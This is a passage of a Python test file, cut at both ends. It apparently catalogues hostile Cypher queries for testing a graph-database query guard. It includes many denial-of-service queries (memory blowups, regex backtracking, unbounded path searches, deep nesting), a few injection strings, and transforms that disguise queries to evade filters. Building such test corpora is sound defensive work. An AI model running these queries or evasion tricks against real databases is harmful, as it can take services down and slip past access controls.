            "UNWIND graph.names() AS g CALL (g) { USE graph.byName(g) MATCH (n) RETURN count(n) AS c } RETURN c AS x",
            r"\u0055SE system SHOW USERS",
        ),
    ),
    Shape(
        "send nothing, or what is no query",
        Aim.SEVERAL,
        (
            "",
            " \t\n",
            ";",
            "// RETURN 1 AS x",
            "/* RETURN 1 AS x */",
            "RETURN",
            "SELECT * FROM people; DROP TABLE people",
            "{ accounts { handle } }",
            "g.V().drop()",
            "\ufeff",
            "\x00",
        ),
    ),
)

_DEEP = (700, 4_500, 40_000)

_LOADS = (
    Shape(
        "unwind a range without end",
        Aim.LOAD,
        (
            "UNWIND range(1, @many) AS i RETURN i AS x",
            "UNWIND range(1, @many) AS i RETURN count(i) AS x",
            "UNWIND range(1, @many) AS i WITH i WHERE i < 0 RETURN i AS x",
            "UNWIND range(@many, 1, -1) AS i WITH i ORDER BY i RETURN i AS x LIMIT 1",
            "UNWIND range(1, @many) AS i RETURN i AS x SKIP 999999999999",
            "UNWIND range(1, @many) AS i RETURN max(i) AS x",
            "MATCH (a:@label) UNWIND range(1, @many) AS i RETURN sum(i * a.score) AS x",
        ),
    ),
    Shape(
        "unwind ranges within ranges",
        Aim.LOAD,
        (
            "UNWIND range(1, 1000000) AS i UNWIND range(1, 1000000) AS j RETURN count(*) AS x",
            "UNWIND range(1, 100000) AS i UNWIND range(1, i) AS j UNWIND range(1, j) AS k RETURN sum(k) AS x",
            _row("UNWIND range(1, 1000) AS i#", 9) + " RETURN count(*) AS x",
            "CALL () { UNWIND range(1, 1000000) AS i RETURN i } UNWIND range(1, 1000000) AS j RETURN count(j) AS x",
        ),
    ),
    Shape(
        "collect rows until memory is full",
        Aim.LOAD,
        (
            "UNWIND range(1, @many) AS i RETURN collect(i) AS x",
            "UNWIND range(1, @many) AS i RETURN collect(DISTINCT i) AS x",
            "UNWIND range(1, @many) AS i WITH DISTINCT i RETURN count(i) AS x",
            "UNWIND range(1, @many) AS i RETURN i AS x ORDER BY i DESC",
            "UNWIND range(1, @many) AS i WITH collect({n: i, t: toString(i)}) AS l RETURN size(l) AS x",
            "UNWIND range(1, @many) AS i WITH i % 10000000 AS g, i RETURN count(DISTINCT i) AS x ORDER BY g",
            "UNWIND range(1, @many) AS i RETURN collect(range(1, 1000)) AS x",
        ),
    ),
    Shape(
        "collect what was collected",
        Aim.LOAD,
        (
            "MATCH (a) WITH collect(a) AS l MATCH (b) WITH l, collect(l) AS m MATCH (c) RETURN collect(m) AS x",
            "UNWIND range(1, 10000) AS i WITH collect(i) AS l UNWIND range(1, 10000) AS j RETURN collect(l + [j]) AS x",
            "MATCH (a)-->(b) WITH a, collect(b) AS l MATCH (c)-->(d) RETURN collect([l, c, d]) AS x",
            "MATCH (a) WITH collect(properties(a)) AS l UNWIND l AS m UNWIND l AS n RETURN collect([l, m, n]) AS x",
        ),
    ),
    Shape(
        "walk a range within a value, where nobody looks at the clock",
        Aim.LOAD,
        (
            "RETURN reduce(n = 0, i IN range(1, @many) | n + i % 7) AS x",
            "RETURN all(i IN range(1, @many) WHERE i > 0) AS x",
            "RETURN any(i IN range(1, @many) WHERE i < 0) AS x",
            "RETURN none(i IN range(1, @many) WHERE i < 0) AS x",
            "RETURN single(i IN range(1, @many) WHERE i = 1) AS x",
            "RETURN -1 IN range(1, @many) AS x",
            "RETURN range(1, @many) = range(1, @many) AS x",
            "MATCH (a:@label) WHERE all(i IN range(1, @many) WHERE i <> a.score) RETURN a.key AS x",
        ),
    ),
    Shape(
        "walk ranges within ranges within a value",
        Aim.LOAD,
        (
            "RETURN reduce(n = 0, i IN range(1, 1000000) | n + reduce(m = 0, j IN range(1, 1000000) | m + j)) AS x",
            "RETURN all(i IN range(1, 9999) WHERE any(j IN range(1, i) WHERE none(k IN range(1, j) WHERE k < j))) AS x",
            "RETURN size([i IN range(1, 100000) | [j IN range(1, 100000) | i * j]]) AS x",
            "RETURN [i IN range(1, 3000) | [j IN range(1, 3000) | [k IN range(1, 3000) | i + j + k]]][-1][-1][-1] AS x",
        ),
    ),
    Shape(
        "build a list as long as memory",
        Aim.LOAD,
        (
            "RETURN size([i IN range(1, @many) | i]) AS x",
            "RETURN size([i IN range(1, @many) WHERE i % 2 = 0]) AS x",
            "RETURN size(range(1, @many) + [1]) AS x",
            "RETURN last(reverse(range(1, @many))) AS x",
            "RETURN size(tail(range(1, @many))) AS x",
            "RETURN range(1, @many)[5..] AS x",
            "RETURN toStringList(range(1, @many))[0] AS x",
            "WITH [i IN range(1, @many) | {n: i}] AS l RETURN size(l) AS x",
            "RETURN size([i IN range(1, 100000000) | toString(i)]) AS x",
        ),
    ),
    Shape(
        "answer with one row of gigabytes",
        Aim.LOAD,
        (
            "RETURN range(1, 1000000000) AS x",
            "RETURN range(1, @many) AS x",
            "RETURN [i IN range(1, 100000000) | i] AS x",
            "RETURN [range(1, 100000), range(1, 10000000), [range(1, 1000000000)]] AS x",
            "RETURN {a: range(1, 500000000), b: range(1, 500000000)} AS x",
            "WITH range(1, 20000) AS l RETURN [i IN l | l] AS x",
            "MATCH (a)-->(b) RETURN collect([a, b, properties(a), properties(b)]) AS x",
            "MATCH p = (a)-->(b)-->(c) RETURN collect(p) AS x",
            "UNWIND range(1, 1000) AS i RETURN range(1, 10000000) AS x",
        ),
    ),
    Shape(
        "double a text forty times",
        Aim.LOAD,
        (
            "WITH 'a' AS s " + _row("WITH s + s AS s", 40) + " RETURN size(s) AS x",
            "WITH 'ab' AS s " + _row("WITH s + s AS s", 31) + " RETURN s AS x",
            "WITH 'aaaaaaaaaa' AS s " + _row("WITH replace(s, 'a', s) AS s", 8) + " RETURN size(s) AS x",
            "RETURN size(reduce(s = 'a', i IN range(1, 60) | s + s)) AS x",
            "RETURN reduce(s = 'a', i IN range(1, 30) | s + s) AS x",
            "RETURN size(reduce(s = 'aaaaaaaa', i IN range(1, 9) | replace(s, 'a', s))) AS x",
            "RETURN size(reduce(s = 'a', i IN range(1, 40) | s || s)) AS x",
            "WITH '0123456789' AS s " + _row("WITH replace(s, '', s) AS s", 7) + " RETURN size(s) AS x",
            "CALL () { WITH 'a' AS s " + _row("WITH s + s AS s", 36) + " RETURN s } RETURN size(s) AS x",
            "UNWIND range(1, 1000) AS i RETURN collect(reduce(s = toString(i), j IN range(1, 20) | s + s)) AS x",
            "MATCH (a:Listed) WITH a.handle AS s " + _row("WITH s + s AS s", 35) + " RETURN max(s) AS x",
        ),
    ),
    Shape(
        "double a list forty times",
        Aim.LOAD,
        (
            "WITH [1] AS l " + _row("WITH l + l AS l", 40) + " RETURN size(l) AS x",
            "RETURN size(reduce(l = [1], i IN range(1, 60) | l + l)) AS x",
            "WITH [1, 2] AS l "
            + _row("UNWIND l AS a# UNWIND l AS b# WITH collect(a#) + collect(b#) AS l", 6)
            + " RETURN 1 AS x",
            "MATCH (a) WITH collect(a) AS l " + _row("WITH l + l AS l", 30) + " RETURN l AS x",
            "RETURN reduce(l = [0], i IN range(1, 25) | [a IN l | a] + [b IN l | b + 1]) AS x",
            "RETURN size(reduce(l = [], i IN range(1, 1000000) | l + [i])) AS x",
        ),
    ),
    Shape(
        "build lists within lists that double when they are told",
        Aim.LOAD,
        (
            "RETURN reduce(l = [1], i IN range(1, 30) | [l, l]) AS x",
            "WITH [1] AS l " + _row("WITH [l, l, l, l] AS l", 18) + " RETURN l AS x",
            "RETURN reduce(m = {n: 1}, i IN range(1, 30) | {a: m, b: m}) AS x",
            "RETURN reduce(l = [1], i IN range(1, 40) | [l, l]) = reduce(l = [1], i IN range(1, 40) | [l, l]) AS x",
            "UNWIND [reduce(l = [1], i IN range(1, 40) | [l, l])] AS l RETURN DISTINCT l AS x",
        ),
    ),
    Shape(
        "answer with a value nested deeper than a reader can follow",
        Aim.LOAD,
        (
            "RETURN reduce(l = [], i IN range(1, 900) | [l]) AS x",
            "RETURN reduce(l = [], i IN range(1, 5000) | [l]) AS x",
            "RETURN reduce(l = [], i IN range(1, 100000) | [l]) AS x",
            "RETURN reduce(l = [], i IN range(1, 10000000) | [l]) AS x",
            "RETURN reduce(m = {}, i IN range(1, 2000) | {m: m}) AS x",
            "RETURN reduce(m = {}, i IN range(1, 100000) | {m: m}) AS x",
            "UNWIND [reduce(l = [], i IN range(1, 100000) | [l])] AS l RETURN DISTINCT l AS x ORDER BY l",
        ),
    ),
    Shape(
        "answer with values that drivers and JSON cannot hold",
        Aim.LOAD,
        (
            "RETURN datetime({year: 999999999}) AS x",
            "RETURN date({year: -999999999}) AS x",
            "RETURN duration({months: 9223372036854775807, days: 9223372036854775807}) AS x",
            "RETURN [sqrt(-1.0), -log(0.0), log(0.0), 9223372036854775807] AS x",
            r"RETURN '\uD800' AS x",
            r"RETURN 'a\u0000b\u001b[2J\u202e</script>' AS x",
            "RETURN localdatetime({year: 10000}) AS x",
            "RETURN 1 AS x, 2 AS `</script><script>`, 3 AS ` `",
            "RETURN point({x: 1e308, y: -1e308, z: 1e308}) AS x",
            "RETURN datetime({year: 1, timezone: '+18:00'}) AS x",
        ),
    ),
    Shape(
        "make a map with more keys than a map has",
        Aim.LOAD,
        (
            "RETURN {" + _row("k#: range(1, 1000000)", 400, ", ") + "} AS x",
            "RETURN {" + _row("k#: {a: #}", 20_000, ", ") + "} AS x",
            "MATCH (a) RETURN a {.*, " + _row("k#: properties(a)", 300, ", ") + "} AS x",
            "UNWIND range(1, @many) AS i RETURN collect({a: i, b: {c: i, d: {e: [i, i, i]}}}) AS x",
        ),
    ),
    Shape(
        "turn huge lists into texts and back",
        Aim.LOAD,
        (
            "RETURN toString(range(1, 1000000000)) AS x",
            "RETURN size(reduce(s = '', i IN range(1, 10000000) | s + toString(i))) AS x",
            "RETURN size(split(reduce(s = 'a,', i IN range(1, 27) | s + s), ',')) AS x",
            "RETURN split(reduce(s = 'a', i IN range(1, 28) | s + s), '') AS x",
            "RETURN [p IN split(reduce(s = 'a,', i IN range(1, 24) | s + s), ',') | split(p, '')] AS x",
            "RETURN size(toStringList(range(1, 1000000000))) AS x",
            "WITH reduce(s = 'a', i IN range(1, 29) | s + s) AS s RETURN [toUpper(s), reverse(s), normalize(s)] AS x",
        ),
    ),
    Shape(
        "match with a pattern that goes back for ever",
        Aim.LOAD,
        (
            "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac' =~ '(a+)+b' AS x",
            "RETURN reduce(s = 'a', i IN range(1, 12) | s + s) + 'c' =~ '(a|aa)+b' AS x",
            "RETURN reduce(s = 'a', i IN range(1, 16) | s + s) =~ '(.*a){20}b' AS x",
            "RETURN reduce(s = 'x', i IN range(1, 10) | s + s) + '!' =~ '((x+x+)+y)|((x*)*z)' AS x",
            "MATCH (a:Listed) WHERE a.handle + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '.*(a*)*b' RETURN a.key AS x",
            r"RETURN reduce(s = '1', i IN range(1, 10) | s + s) =~ '(\\d+)*(\\d+)*(\\d+)*x' AS x",
            "RETURN reduce(s = 'ab', i IN range(1, 20) | s + s) =~ '(ab|ab)*c' AS x",
            "RETURN reduce(s = 'a', i IN range(1, 18) | s + s) =~ '(?:(?:a?){100}){100}b' AS x",
            "RETURN 'a' =~ '" + "(" * 3_000 + "a" + ")*" * 3_000 + "' AS x",
        ),
    ),
    Shape(
        "pair everybody with everybody",
        Aim.LOAD,
        (
            "MATCH (a), (b), (c) RETURN count(*) AS x",
            "MATCH (a) MATCH (b) MATCH (c) MATCH (d) RETURN count(*) AS x",
            "MATCH (a), (b), (c), (d), (e) WHERE a.key < b.key AND b.key < c.key RETURN count(*) AS x",
            "MATCH (a), (b), (c), (d), (e), (f) RETURN sum(coalesce(a.score, 1) * coalesce(f.score, 1)) AS x",
            "MATCH (a), (b), (c) RETURN a.key + b.key + c.key AS x",
            "MATCH (a:@label), (b:@label), (c:@label), (d:@label) RETURN count(DISTINCT [a, b, c, d]) AS x",
            "MATCH ()-[r]->(), ()-[s]->(), ()-[t]->() RETURN count(*) AS x",
        ),
    ),
    Shape(
        "pair everybody with everybody and keep it all",
        Aim.LOAD,
        (
            "MATCH (a), (b), (c) RETURN collect([a, b, c]) AS x",
            "MATCH (a), (b), (c), (d) RETURN collect(DISTINCT a.key + b.key + c.key + d.key) AS x",
            "MATCH (a), (b), (c) WITH a, collect(b) AS l, collect(c) AS m RETURN collect(l + m) AS x",
            "MATCH (a), (b), (c), (d) WITH DISTINCT a, b, c, d RETURN count(*) AS x",
        ),
    ),
    Shape(
        "sort the pairs of everybody with everybody",
        Aim.LOAD,
        (
            "MATCH (a), (b), (c) RETURN a.key AS x ORDER BY a.score * b.score * c.score DESC",
            "MATCH (a), (b), (c) WITH a, b, c ORDER BY rand() RETURN a.key AS x LIMIT 1000000000",
            "MATCH (a), (b), (c), (d) WITH a, b ORDER BY c.key, d.key RETURN collect(a.key)[0] AS x",
            "MATCH (a), (b), (c) RETURN [a, b, c] AS x ORDER BY x SKIP 1000000000000",
        ),
    ),
    Shape(
        "take percentiles and spreads of the pairs of everybody",
        Aim.LOAD,
        (
            "MATCH (a), (b), (c) RETURN percentileCont(coalesce(a.score, 0) * coalesce(b.score, 1) + id(c), 0.5) AS x",
            "MATCH (a), (b), (c) RETURN percentileDisc(id(a) + id(b) + id(c), 0.99) AS x",
            "UNWIND range(1, @many) AS i RETURN percentileCont(i, 0.5) AS x",
            "MATCH (a), (b), (c), (d) RETURN stDev(id(a) * id(b) - id(c) * id(d)) AS x",
        ),
    ),
    Shape(
        "follow acts without end",
        Aim.LOAD,
        (
            "MATCH p = (a)-[*]-(b) RETURN count(p) AS x",
            "MATCH (a:@label)-[*]->(b) RETURN count(*) AS x",
            "MATCH p = (a)-[*5..]->(b) RETURN p AS x",
            "MATCH p = (a)-[*1..1000000]-(a) RETURN count(p) AS x",
            "MATCH p = (a:Listed)-[*]-(b:Listed)-[*]-(c:Listed) RETURN collect(p) AS x",
            "MATCH p = ()-[:@kind*10..30]-() RETURN max(length(p)) AS x",
            "MATCH (a:Listed) RETURN COUNT { (a)-[*]-() } AS x",
            "MATCH (a:Listed) RETURN size([(a)-[*]-(b) | b]) AS x",
        ),
    ),
    Shape(
        "repeat a pattern without end",
        Aim.LOAD,
        (
            "MATCH (s:Listed) ((a)-->(b)){1,} (t) RETURN count(*) AS x",
            "MATCH p = ((a)-[r]-(b))+ RETURN count(p) AS x",
            "MATCH (a)--+(b) RETURN count(*) AS x",
            "MATCH (a)-[:@kind]->*(b)-[]-*(c) RETURN count(*) AS x",
            "MATCH (s) ((a)--(b)--(c)){5,1000} (t) RETURN count(*) AS x",
            "MATCH (s) ((a)--(b) WHERE a.key <> b.key)+ (t) ((c)--(d))+ (u) RETURN count(*) AS x",
            "MATCH p = (s)-->{1,1000000000}(t) RETURN p AS x",
        ),
    ),
    Shape(
        "look for the shortest way that is not there",
        Aim.LOAD,
        (
            "MATCH p = shortestPath((a)-[*]-(b)) WHERE a <> b AND length(p) > 50 RETURN count(p) AS x",
            "MATCH (a:Listed), (b:Listed) MATCH p = shortestPath((a)-[*]->(b)) WHERE a <> b RETURN sum(length(p)) AS x",
            "MATCH (a), (b), p = shortestPath((a)-[*]-(b)) WHERE a <> b AND none(n IN nodes(p) WHERE n:Z) RETURN p",
            "MATCH p = SHORTEST 1000000 (a)-[]-+(b) RETURN count(p) AS x",
            "MATCH p = ANY SHORTEST (a) ((c)-->(d))+ (b) WHERE length(p) > 100 RETURN count(p) AS x",
        ),
    ),
    Shape(
        "look for all shortest ways",
        Aim.LOAD,
        (
            "MATCH (a), (b) MATCH p = allShortestPaths((a)-[*]-(b)) WHERE a <> b RETURN count(p) AS x",
            "MATCH p = allShortestPaths((a:Listed)-[*]-(b:Listed)) WHERE a <> b RETURN collect(p) AS x",
            "MATCH p = ALL SHORTEST (a)--+(b) RETURN count(p) AS x",
            "MATCH p = SHORTEST 1000 GROUPS (a)-[]-+(b) RETURN count(p) AS x",
            "MATCH (a:Listed), (b:Listed) WHERE a <> b RETURN size(nodes(head(COLLECT { "
            "MATCH p = allShortestPaths((a)-[*]-(b)) RETURN p }))) AS x",
        ),
    ),
    Shape(
        "have the plan itself grow, with bounds that are unrolled",
        Aim.LOAD,
        (
            "MATCH p = SHORTEST 1 (a:Listed) ((c)-->(d)){1,1000000} (b:Listed) RETURN p AS x",
            "MATCH p = ANY SHORTEST (a:Listed)-->{5000,1000000}(b:Listed) RETURN length(p) AS x",
            "MATCH p = SHORTEST 2147483647 (a:Listed) ((c)-->(d)-->(e)){99999} (b) RETURN p AS x",
            "MATCH (a:Listed) ((c)-->(d)){2000} (b) RETURN count(*) AS x",
            "MATCH (a:Listed)-[*2000]->(b) RETURN count(*) AS x",
        ),
    ),
    Shape(
        "have the plan itself grow, with conditions that multiply out",
        Aim.LOAD,
        (
            "MATCH (n:Account) WHERE " + _row("n.a# = 1", 60, " XOR ") + " RETURN n.key AS x",
            "MATCH (n:Account) WHERE " + _row("(n.a# = 1 AND n.b# = 2)", 40, " OR ") + " RETURN n.key AS x",
            "MATCH (n:Account) WHERE NOT (" + _row("(n.a# = 1 OR n.b# = 2)", 40, " AND ") + ") RETURN n.key AS x",
            "MATCH (n:" + _row("(A#&B#)", 40, "|") + ") RETURN n.key AS x",
            "MATCH (n:Account) WHERE " + _row("(n.a# = n.b#) = (n.c# = n.d#)", 30, " XOR ") + " RETURN n.key AS x",
            "RETURN " + _row("$p# = 1", 50, " XOR ") + " AS x",
            "MATCH (n) WHERE n:" + _row("!(A#|!B#)", 40, "&") + " XOR n:Z RETURN n.key AS x",
        ),
    ),
    Shape(
        "have the plan itself grow, with a pattern of many parts",
        Aim.LOAD,
        (
            "MATCH (a0)" + _row("-[r#]->(b#)", 120, "") + " RETURN count(*) AS x",
            "MATCH " + _row("(a)-->(b#)", 60, ", ") + " RETURN count(*) AS x",
            "MATCH " + ", ".join(f"(a{i})-->(a{j})" for i in range(12) for j in range(i)) + " RETURN count(*) AS x",
            "MATCH " + _row("(a#)", 150, ", ") + " RETURN count(*) AS x",
            "MATCH " + _row("(a#:Account {key: $k})", 60, ", ") + " WHERE a0.score = a59.score RETURN count(*) AS x",
        ),
    ),
    Shape(
        "join thousands of branches",
        Aim.LOAD,
        (
            _row("RETURN # AS x", 300, " UNION "),
            _row("RETURN # AS x", 5_000, " UNION ALL "),
            _row("MATCH (a:Listed) RETURN a.key AS x", 2_000, " UNION "),
            _row("CALL () { MATCH (a#) RETURN count(a#) AS c# }", 1_000) + " RETURN c0 AS x",
            "CALL () { " + _row("RETURN # AS y", 3_000, " UNION ") + " } RETURN y AS x",
        ),
    ),
    Shape(
        "ask for thousands of optional parts",
        Aim.LOAD,
        (
            "MATCH (a:Listed) " + _row("OPTIONAL MATCH (a)-->(b#)", 300) + " RETURN count(*) AS x",
            "MATCH (a:Listed) " + _row("OPTIONAL MATCH (a)--(b#)", 3_000) + " RETURN a.key AS x",
            _row("OPTIONAL MATCH (a#)-->(b#)", 1_000) + " RETURN count(*) AS x",
            "MATCH (a:Listed) " + _row("WITH a, COUNT { (a)--() } AS c#", 2_000) + " RETURN a.key AS x",
            "MATCH (a:Listed) WHERE " + _row("EXISTS { (a)-->({key: '#'}) }", 400, " OR ") + " RETURN a.key AS x",
        ),
    ),
    Shape(
        "nest brackets thousands deep",
        Aim.LOAD,
        tuple("RETURN " + _within("(", "1", ")", depth) + " AS x" for depth in _DEEP)
        + tuple("RETURN " + _within("[", "1", "]", depth) + " AS x" for depth in _DEEP)
        + (
            "RETURN " + _within("{a: ", "1", "}", 2_000) + " AS x",
            "RETURN " + _within("toString(", "1", ")", 900) + " AS x",
            "RETURN " + _within("[i IN ", "[1]", " | i]", 1_000) + " AS x",
            "RETURN [1]" + "[0]" * 3_000 + " AS x",
        ),
    ),
    Shape(
        "nest signs and cases thousands deep",
        Aim.LOAD,
        (
            "RETURN " + _within("CASE WHEN true THEN ", "1", " ELSE 0 END", 300) + " AS x",
            "RETURN " + _within("CASE WHEN true THEN ", "1", " ELSE 0 END", 5_000) + " AS x",
            "RETURN " + "NOT " * 2_400 + "true AS x",
            "RETURN " + _within("-(", "1", ")", 2_400) + " AS x",
            "RETURN " + "NOT " * 30_000 + "true AS x",
            "RETURN 1" + " + 1" * 2_400 + " AS x",
            "RETURN 1" + " + 1" * 30_000 + " AS x",
            "RETURN 1" + " < 2" * 2_400 + " AS x",
            "RETURN 2" + " ^ 2" * 2_400 + " AS x",
            "RETURN true" + " AND true" * 1_000 + " AS x",
            "RETURN {}" + ".a" * 4_900 + " AS x",
        ),
    ),
    Shape(
        "nest questions in questions",
        Aim.LOAD,
        (
            "MATCH (a) WHERE "
            + _row("EXISTS { MATCH (b#), (c#) WHERE", 12)
            + " true"
            + " }" * 12
            + " RETURN count(*) AS x",
            "MATCH (a) WHERE " + _within("EXISTS { MATCH (a)--() WHERE ", "true", " }", 150) + " RETURN count(*) AS x",
            "RETURN " + _within("COUNT { MATCH (a), (b) WHERE a <> b AND 0 < ", "1", " }", 6) + " AS x",
            "RETURN " + _within("COLLECT { MATCH (a), (b) RETURN ", "1", " }", 6) + " AS x",
            _within("CALL () { ", "RETURN 1 AS x", " } RETURN x", 200),
            _within("CALL () { ", "RETURN 1 AS x", " } RETURN x", 2_000),
        ),
    ),
    Shape(
        "say it with more words than a query has",
        Aim.LOAD,
        (
            "RETURN " + _row("# AS c#", 800, ", "),
            "RETURN " + _row("# AS c#", 20_000, ", "),
            "MATCH (a:Listed) WHERE a.key IN [" + _row("'k#'", 1_000, ", ") + "] RETURN a.key AS x",
            "MATCH (a:Listed) WHERE a.key IN [" + _row("'k#'", 50_000, ", ") + "] RETURN a.key AS x",
            "RETURN '" + "a" * 200_000 + "' AS x",
            "RETURN " + "9" * 9_000 + " AS x",
            "RETURN 1 AS `" + "x" * 9_900 + "`",
            "WITH 1 AS x " + _row("WITH x", 1_900) + " RETURN x AS x",
            "RETURN " + _row("$p#", 900, " + ") + " AS x",
        ),
    ),
    Shape(
        "open transactions that nobody watches",
        Aim.LOAD,
        (
            "UNWIND range(1, @many) AS i CALL (i) { RETURN i AS j } IN TRANSACTIONS OF 1 ROW RETURN count(j) AS x",
            "MATCH (a) CALL (a) { MATCH (b), (c) RETURN count(*) AS n } IN 64 CONCURRENT TRANSACTIONS RETURN n AS x",
            "UNWIND [1, 2] AS i CALL (i) { RETURN range(1, @many) AS r } IN TRANSACTIONS ON ERROR BREAK RETURN r AS x",
        ),
    ),
    Shape(
        "let a subquery run for every row",
        Aim.LOAD,
        (
            "MATCH (a), (b) CALL (a, b) { MATCH (c), (d) RETURN count(*) AS n } RETURN sum(n) AS x",
            "MATCH (a)-->(b) RETURN sum(COUNT { MATCH (c)-->(d) WHERE c.at > a.at AND d.at < b.at }) AS x",
            "MATCH (a) WHERE EXISTS { MATCH (b), (c), (d) WHERE b.key + c.key = d.key + a.key } RETURN a.key AS x",
            "UNWIND range(1, @many) AS i CALL (i) { UNWIND range(1, i) AS j RETURN max(j) AS m } RETURN max(m) AS x",
            "MATCH (a) WITH a, COLLECT { MATCH (b), (c) RETURN [a, b, c] } AS l RETURN collect(l) AS x",
        ),
    ),
    Shape(
        "have the index of names look at everything",
        Aim.LOAD,
        (
            "CALL db.index.fulltext.queryNodes('people_names', '*:*') YIELD node, score RETURN node AS x",
            "CALL db.index.fulltext.queryNodes('people_names', '/(.*a.*){30}/') YIELD node RETURN node AS x",
            "CALL db.index.fulltext.queryNodes('people_names', 'a~2 b~2 c~2 *a* ?*') YIELD node RETURN node AS x",
            "CALL db.index.fulltext.queryNodes('people_names', reduce(s = 'a ', i IN range(1, 16) | s + s)) YIELD node "
            "RETURN count(node) AS x",
        ),
    ),
)

SHAPES = _WRITES + _PROCEDURES + _FUNCTIONS + _ADMIN + _FILES + _SEVERAL + _LOADS
"""All of them, by what they are after."""

_WORDS = {
    "label": ("Account", "Listed", "Counted", "Person", "Rating", "Consent", "Network", "Import"),
    "kind": ("REPLIED", "REPOSTED", "LIKED", "FOLLOWED", "MENTIONED"),
    "many": (
        "1000000000000",
        "9223372036854775806",
        "0xE8D4A51000",
        "1_000_000_000_000",
        "toInteger(1e12)",
        "1000000 * 1000000",
        "toInteger(10 ^ 12)",
        "0o16432451210000",
    ),
}


def _filled(text: str, number: int) -> str:
    """Return *text* with its words filled in, the same word for the same sign."""
    for sign, words in _WORDS.items():
        text = text.replace(f"@{sign}", words[number % len(words)])
    return text


_TOKEN = re.compile(
    r"""(?P<literal>'(?:[^'\\]|\\.)*' | "(?:[^"\\]|\\.)*" | `[^`]*`)
      | (?P<comment>//[^\r\n]*[\r\n]? | /\*.*?\*/)
      | (?P<space>[ \t\n]+)
      | (?P<word>[A-Za-z_]\w*)
      | (?P<other>.)""",
    re.VERBOSE | re.DOTALL,
)


def _changed(text: str, kind: str, change: Callable[[re.Match[str]], str]) -> str:
    """Return *text* with its tokens of one kind changed, and nothing within literals and comments."""
    return _TOKEN.sub(lambda token: change(token) if token.lastgroup == kind else token[0], text)


def _is_keyword(token: re.Match[str]) -> bool:
    """Tell whether a word stands for Cypher's own: our texts have those, and no variable, in capital letters."""
    before, after = token.string[: token.start()].rstrip()[-1:], token.string[token.end() :][:1]
    is_loud = len(token[0]) > 1 and token[0].isalpha() and token[0].isupper()
    return is_loud and before not in set(".:|$\\!&") and after != ":"


def _keywords(text: str, change: Callable[[str], str]) -> str:
    return _changed(text, "word", lambda token: change(token[0]) if _is_keyword(token) else token[0])


def _lower(text: str) -> str:
    return _keywords(text, str.lower)


def _mixed(text: str) -> str:
    return _keywords(text, lambda word: "".join(c.lower() if i % 2 else c for i, c in enumerate(word)))


_BUILT_IN = re.compile(
    "all|any|coalesce|collect|count|head|id|labels|last|length|max|nodes|none|percentile(cont|disc)|properties|range"
    "|reduce|relationships|replace|reverse|shortestpath|single|size|split|stdev|sum|tail|tointeger|tostring"
)


def _shouted(text: str) -> str:
    """Return *text* with Cypher's own functions in capital letters and its keywords in small ones."""

    def change(token: re.Match[str]) -> str:
        before, after = token.string[: token.start()][-1:], token.string[token.end() :][:1]
        is_function = _BUILT_IN.fullmatch(token[0].lower()) and after == "(" and before != "."
        return token[0].upper() if is_function else token[0]

    return _changed(_lower(text), "word", change)


def _escaped(text: str) -> str:
    """Return *text* with the first letter of every keyword as an escape; the server reads those before all else."""
    return _keywords(text, lambda word: f"\\u{ord(word[0]):04x}{word[1:]}")


def _spaced(text: str, *spaces: str) -> str:
    """Return *text* with other white space between its tokens, one after another."""
    turn = count()
    return _changed(text, "space", lambda _: spaces[next(turn) % len(spaces)])


def _lined(text: str) -> str:
    return _spaced(text, "\n", "\t", "\r\n\t", "\n\n    ")


def _exotic(text: str) -> str:
    return _spaced(text, "\u00a0", "\u2003", "\u3000", "\u2028", "\x0b", "\u202f")


def _commented(text: str) -> str:
    return _spaced(text, "/**/")


def _misleading(text: str) -> str:
    """Return *text* with comments between its tokens that seem to end or to begin something."""
    return _spaced(text, " /* ' */ ", " /* ; */ ", ' /* " */ ', " /* ` */ ", " /* // */ ")


def _by_lines(text: str) -> str:
    return _spaced(text, " // ;\n", " // '\n", " // */\n")


def _backticked(text: str) -> str:
    """Return *text* with backticks around names of labels, properties, procedures and functions."""

    def change(token: re.Match[str]) -> str:
        before, after = token.string[: token.start()][-1:], token.string[token.end() :][:1]
        is_name = before in set(":.") or (after == "." and token.string[token.end() :][1:2] != ".")
        return f"`{token[0]}`" if is_name and before != "`" else token[0]

    return _changed(text, "word", change)


def _torn(text: str) -> str:
    """Return *text* with comments and a line end around the dots of names."""
    parts = [(token[0], token.lastgroup) for token in _TOKEN.finditer(text)]
    torn = ""
    for i, (part, _) in enumerate(parts):
        around = [parts[j][1] if 0 <= j < len(parts) else None for j in (i - 1, i + 1)]
        torn += " /* . */ . // (\n " if part == "." and set(around) <= {"word", "literal"} else part
    return torn


def _after_comment(text: str) -> str:
    return "/* MATCH (n) RETURN n; */ " + text


def _after_line(text: str) -> str:
    return "\n// RETURN 1\n\n" + text


def _ended(text: str) -> str:
    return text + ";"


def _trailed(text: str) -> str:
    return text + "\n// RETURN 1 AS x"


_BEGINS = re.compile(
    r"(OPTIONAL MATCH|MATCH|WITH|UNWIND|RETURN|CALL|OPTIONAL CALL|FOREACH|MERGE|INSERT|CREATE|LOAD CSV)\b"
    r"(?! *(OR REPLACE|USER|ROLE|DATABASE|COMPOSITE|ALIAS|([A-Z]+ )?INDEX|CONSTRAINT)\b)"
)
_ENDS = re.compile(r"\bRETURN\b(?!.*\bRETURN\b).* AS x\b( (ORDER BY|SKIP|LIMIT)\b[^}]*)?$", re.DOTALL)
_CANNOT_BE_WITHIN = re.compile(r";|//[^\n]*$|\bIN [^}]*TRANSACTIONS\b|^CALL [^({]*(\([^)]*\))?$|\bFINISH$")


def _is_query(text: str) -> bool:
    """Tell whether *text* is made of clauses, so that others may stand before and around it."""
    return bool(_BEGINS.match(text)) and ";" not in text


def _may_be_within(text: str) -> bool:
    answers = bool(_ENDS.search(text))
    return _is_query(text) and not _CANNOT_BE_WITHIN.search(text) and (answers or "RETURN" not in text)


def _answering(text: str) -> str:
    return text if _ENDS.search(text) else f"{text} RETURN 0 AS x"


def _called(text: str) -> str:
    if not _may_be_within(text):
        return text
    return f"CALL () {{ {text} }} RETURN {'x AS x' if _ENDS.search(text) else '0 AS x'}"


def _called_as_before(text: str) -> str:
    if not _may_be_within(text):
        return text
    return f"CALL {{ {_answering(text)} }} WITH x RETURN x AS x"


def _after_match(text: str) -> str:
    return f"MATCH (harmless:State) WITH harmless LIMIT 1 {text}" if _is_query(text) else text


def _after_with(text: str) -> str:
    return f"WITH 1 AS harmless {text}" if _is_query(text) else text


def _union(text: str) -> str:
